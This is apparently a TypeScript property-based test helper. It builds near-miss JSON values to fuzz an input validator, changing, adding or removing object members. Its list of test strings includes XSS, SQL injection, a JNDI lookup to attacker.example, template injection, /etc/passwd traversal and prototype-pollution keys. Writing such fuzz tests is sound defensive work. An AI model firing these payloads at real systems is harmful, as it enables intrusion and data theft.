// Values that are almost right: one member wrong, one too many, or one that is nobody's to set.
import fc from 'fast-check'
import { asObject } from './json.ts'

/** What people, tools and attackers put into texts. */
export const nastyTexts: readonly string[] = [
  '',
  ' ',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  "'); DROP TABLE client; --",
  '{jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '%00',
  '\u0000',
  'a\u0000b',
  'line\nbreak',
  'carriage\r\nreturn: header',
  '\u001b[31mred',
  '\u007f',
  '\u0085\u2028\u2029',
  '\u202eright to left',
  '\ufeffmark',
  '\ud800',
  'half\udc00',
  'e\u0301 and \u00e9',
  '👩‍👩‍👧‍👦',
  '𝕬𝖈𝖒𝖊',
  'ﬃ',
  'x'.repeat(101),
  'x'.repeat(5000),
  'ÿ'.repeat(300),
  '__proto__',
  'constructor',
  'null',
  'true',
  '0',
  '-1',
  '1e309',
  '0.0.0.0/0',
  '::/0',
  '0.0.0.0/32',
  '10.0.0.1/33',
  '10.0.0.1/8',
  '255.255.255.255/32',
  '::ffff:0:0/96',
  '010.0.0.1',
  '1.2.3',
  '127.0.0.1',
  'localhost',
  '2026-02-30T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '0000-01-01T00:00:00Z',
  'http://127.0.0.1/',
  'javascript:alert(1)',
  'account_read',
  'operator',
  'document_read event',
]

const nastyNumbers: readonly number[] = [0, -0, -1, 1.5, 59, 86_401, 2 ** 31, 2 ** 53, 2 ** 63, 1e308, -1e308]

const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...nastyTexts) },
  { weight: 2, arbitrary: fc.constantFrom(...nastyNumbers) },
  { weight: 2, arbitrary: fc.constantFrom(null, true, false, [], {}, [[]], [null], [{}], { a: 1 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(...nastyTexts).map((text) => [text]) },
  { weight: 1, arbitrary: fc.constantFrom(...nastyTexts).map((text) => [text, text]) },
  { weight: 1, arbitrary: longList() },
)

/** Members that only we set, or that mean something to JavaScript. */
const foreignNames = [
  'id',
  'accountId',
  'account_id',
  'environment',
  'operator',
  'isOperator',
  'version',
  'createdAt',
  'updatedAt',
  'disabledAt',
  'deletedAt',
  'notBefore',
  'production',
  'clientId',
  'clientSecret',
  'secret',
  'hash',
  'permissions',
  'access',
  'builtIn',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'x'.repeat(300),
  '',
]

function longList(): fc.Arbitrary<unknown[]> {
  return fc
    .tuple(fc.constantFrom(1000, 3000), fc.constantFrom('document_read', '10.0.0.0/8', 'x', 7))
    .map(([length, value]) =>
      Array.from({ length }, (_, index) => (index === 0 ? value : `${value}${index}`)),
    )
}

type Change = (value: unknown) => unknown

/** A change somewhere in a value. */
export const nearMiss: fc.Arbitrary<Change> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.tuple(fc.nat(), nastyValue).map(
      ([at, value]): Change =>
        (whole) =>
          changeMember(whole, at, () => value),
    ),
  },
  {
    weight: 3,
    arbitrary: fc.tuple(fc.constantFrom(...foreignNames), nastyValue).map(
      ([name, value]): Change =>
        (whole) =>
          withMember(whole, name, value),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.nat().map(
      (at): Change =>
        (whole) =>
          withoutMember(whole, at),
    ),
  },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.nat(), nearMissWithin()).map(
      ([at, change]): Change =>
        (whole) =>
          changeMember(whole, at, change),
    ),
  },
  {
    weight: 1,
    arbitrary: nastyValue.map(
      (value): Change =>
        () =>
          value,
    ),
  },
)

/** The same, one level deeper: in a list, or in an object of a list. */
function nearMissWithin(): fc.Arbitrary<Change> {
  return fc.tuple(fc.nat(), nastyValue, fc.constantFrom(...foreignNames)).map(([at, value, name]): Change => {
    return (inner) => {
      if (!Array.isArray(inner)) return withMember(inner, name, value)
      return at % 2 === 0 ? [value, ...inner.slice(1)] : [...inner, value]
    }
  })
}

function changeMember(whole: unknown, at: number, change: Change): unknown {
  const entries = Object.entries(asObject(whole))
  if (entries.length === 0) return change(whole)
  const chosen = at % entries.length
  return Object.fromEntries(
    entries.map(([name, value], index) => [name, index === chosen ? change(value) : value]),
  )
}

function withMember(whole: unknown, name: string, value: unknown): unknown {
  return Object.fromEntries([...Object.entries(asObject(whole)), [name, value]])
}

function withoutMember(whole: unknown, at: number): unknown {
  const entries = Object.entries(asObject(whole))
  return Object.fromEntries(entries.toSpliced(entries.length === 0 ? 0 : at % entries.length, 1))
}
